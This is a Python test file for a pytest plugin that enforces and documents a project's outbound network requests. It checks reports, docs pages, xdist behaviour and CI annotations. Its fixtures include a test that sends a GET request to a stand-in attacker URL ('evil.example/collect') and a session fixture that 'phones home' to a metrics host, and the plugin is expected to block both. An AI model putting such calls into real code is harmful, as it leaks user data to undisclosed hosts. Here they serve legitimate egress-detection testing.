"""Reports people read and CI trusts, from a real run: JSON report, docs page, pytest-xdist,
documentation coverage and GitHub Actions annotations."""

from __future__ import annotations

import json
import pickle
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from pytest_outbound import OutboundBlocked
from pytest_outbound._report import report_schema

POLICY = """
[[destination]]
name = "update-check"
group = "Outbound requests by the server"
description = "Checking for updates."
when = "Every 8 hours."
hosts = ["octopus.com"]

[[destination]]
name = "nuget"
group = "Outbound requests by the server"
description = "Downloading packages."
hosts = ["*.nuget.org"]

[[destination]]
name = "crl"
group = "Outbound requests by the agent"
description = "Certificate revocation list checks."
hosts = ["crl.example"]
"""

TESTS = """
import pytest, requests
from pytest_outbound import OutboundBlocked

@pytest.mark.parametrize("n", range(4))
def test_update(outbound, n):
    outbound.stub("update-check")
    requests.get(f"https://octopus.com/check/{n}")

def test_nuget(outbound):
    outbound.stub("nuget")
    requests.get("https://api.nuget.org/v3/index.json")

def test_leak(outbound):
    outbound.stub("evil.example")
    try:
        requests.get("https://evil.example/collect")
    except OutboundBlocked:
        pass
"""


@pytest.fixture
def suite(pytester: pytest.Pytester) -> pytest.Pytester:
    pytester.makefile(".toml", outbound=POLICY)
    pytester.makeini("[pytest]\noutbound_policy = outbound.toml\noutbound_mode = enforce\n")
    pytester.makepyfile(test_app=TESTS)
    return pytester


def normalised(report: dict[str, Any]) -> dict[str, Any]:
    """The report apart from worker ids and ordering."""
    report = dict(report)
    report.pop("workers", None)
    report["requests"] = sorted(
        ({k: v for k, v in r.items() if k not in ("time", "thread")} for r in report["requests"]),
        key=lambda r: (r["nodeid"], r["url"]),
    )
    report["destinations"] = sorted(report["destinations"], key=lambda d: d["name"])
    return report


@pytest.mark.parametrize("workers", ["0", "2"])
def test_report_is_valid_and_the_same_with_or_without_xdist(
    suite: pytest.Pytester, workers: str
) -> None:
    result = suite.runpytest("-n", workers, "--outbound-report", "out/report.json")
    result.assert_outcomes(passed=5, failed=1)
    report = json.loads((suite.path / "out" / "report.json").read_text())
    jsonschema.validate(report, report_schema())
    # The same run in one process is the reference.
    reference = suite.runpytest("-p", "no:xdist", "--outbound-report", "ref.json")
    reference.assert_outcomes(passed=5, failed=1)
    assert normalised(report) == normalised(json.loads((suite.path / "ref.json").read_text()))
    assert report["summary"]["requests"] == 6
    assert report["summary"]["violations"] == 1
    assert report["summary"]["unexercised_destinations"] == ["crl"]
    assert report["summary"]["undocumented_hosts"] == ["evil.example"]
    if workers == "2":
        assert sorted(report["workers"]) == ["gw0", "gw1"]
        # Enforcement happened in the workers: the swallowed block failed its test there.
        result.stdout.fnmatch_lines(["*test_leak*", "*caught the OutboundBlocked*"])
    result.stdout.fnmatch_lines(
        [
            "mode: enforce; 6 outbound request(s), 1 violation(s)",
            "2 of 3 documented destinations were exercised",
        ]
    )


def test_a_killed_worker_is_named_and_the_others_data_kept(suite: pytest.Pytester) -> None:
    suite.makepyfile(
        test_crash="""
        import os

        def test_dies(outbound):
            os._exit(3)
        """
    )
    result = suite.runpytest("-n", "2", "--max-worker-restart", "0", "--outbound-report", "r.json")
    report = json.loads((suite.path / "r.json").read_text())
    jsonschema.validate(report, report_schema())
    crashed = [w for w, state in report["workers"].items() if state.startswith("crashed")]
    assert len(crashed) == 1
    result.stdout.fnmatch_lines(
        [
            f"worker {crashed[0]} crashed*; it was running test_crash.py::test_dies; the"
            " requests of the test it was running are missing*"
        ]
    )
    # Whatever the surviving worker ran is in the report.
    assert report["summary"]["requests"] >= 1
    assert result.ret != 0


def test_docs_are_written_and_checked(suite: pytest.Pytester) -> None:
    result = suite.runpytest("--outbound-docs", "OUTBOUND.md")
    page = (suite.path / "OUTBOUND.md").read_text()
    assert "## Outbound requests by the server" in page
    assert "## Outbound requests by the agent" in page
    assert "Checking for updates." in page
    # Current page: the check passes (the run fails only for test_leak).
    result = suite.runpytest("--outbound-docs-check", "OUTBOUND.md")
    result.assert_outcomes(passed=5, failed=1)
    result.stdout.no_fnmatch_line("*out of date*")
    # Stale page: the run fails with a diff, and writing it at the same time fixes it.
    (suite.path / "OUTBOUND.md").write_text(page.replace("Checking for updates.", "Phoning home."))
    result = suite.runpytest(
        "-k",
        "not leak",
        "--outbound-force-verdicts",
        "--outbound-docs-check",
        "OUTBOUND.md",
        "--outbound-docs",
        "OUTBOUND.md",
    )
    result.assert_outcomes(passed=5)
    assert result.ret == pytest.ExitCode.TESTS_FAILED
    result.stdout.fnmatch_lines(
        [
            "the documentation page OUTBOUND.md is out of date (it was rewritten now; commit it):",
            "*-*Phoning home.*",
            "*+*Checking for updates.*",
        ]
    )


@pytest.mark.parametrize("workers", ["0", "2"])
def test_require_coverage_fails_a_run_that_misses_a_destination(
    suite: pytest.Pytester, workers: str
) -> None:
    result = suite.runpytest(
        "-n",
        workers,
        "-k",
        "not leak",
        "--outbound-force-verdicts",
        "-o",
        "outbound_require_coverage=true",
    )
    result.assert_outcomes(passed=5)
    assert result.ret == pytest.ExitCode.TESTS_FAILED
    result.stdout.fnmatch_lines(
        ["outbound_require_coverage: 1 documented destination(s) were exercised by no test: crl"]
    )


def test_a_missing_docs_page_fails_the_check(suite: pytest.Pytester) -> None:
    """Missing, not out of date: said before the first test (issue 24)."""
    result = suite.runpytest(
        "-k", "not leak", "--outbound-force-verdicts", "--outbound-docs-check", "OUTBOUND.md"
    )
    assert result.ret == pytest.ExitCode.USAGE_ERROR
    result.stderr.fnmatch_lines(
        ["ERROR: --outbound-docs-check OUTBOUND.md: the page is missing; write it with*"]
    )


def test_a_worker_blocking_a_request_outside_any_test_fails_the_session(
    suite: pytest.Pytester,
) -> None:
    suite.makeconftest(
        """
        import pytest, requests

        @pytest.fixture(scope="session", autouse=True)
        def phone_home():
            try:
                requests.get("https://metrics.example/session")
            except Exception:
                pass   # swallowed outside any test
        """
    )
    result = suite.runpytest("-n", "2", "-k", "not leak")
    result.assert_outcomes(passed=5)
    assert result.ret == pytest.ExitCode.TESTS_FAILED
    result.stdout.fnmatch_lines(
        ["* request(s) outside any test were blocked (enforce): the session fails"]
    )


def test_github_actions_annotations_and_step_summary(
    suite: pytest.Pytester, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    step_summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(step_summary))
    result = suite.runpytest()
    result.stdout.fnmatch_lines(
        [
            "::error file=test_app.py,line=16,title=outbound request::GET https://evil.example/collect"
            " (requests): undocumented in test_app.py::test_leak"
        ]
    )
    markdown = step_summary.read_text()
    assert "evil.example" in markdown
    assert "2 of 3" in markdown


def test_blocked_exception_survives_pickling() -> None:
    error = OutboundBlocked(
        "blocked: GET https://x.example/", "https://x.example/", "httpx", ("undocumented",)
    )
    copy = pickle.loads(pickle.dumps(error))
    assert (copy.message, copy.url, copy.client, copy.reasons) == (
        error.message,
        error.url,
        error.client,
        error.reasons,
    )
    assert type(copy) is OutboundBlocked
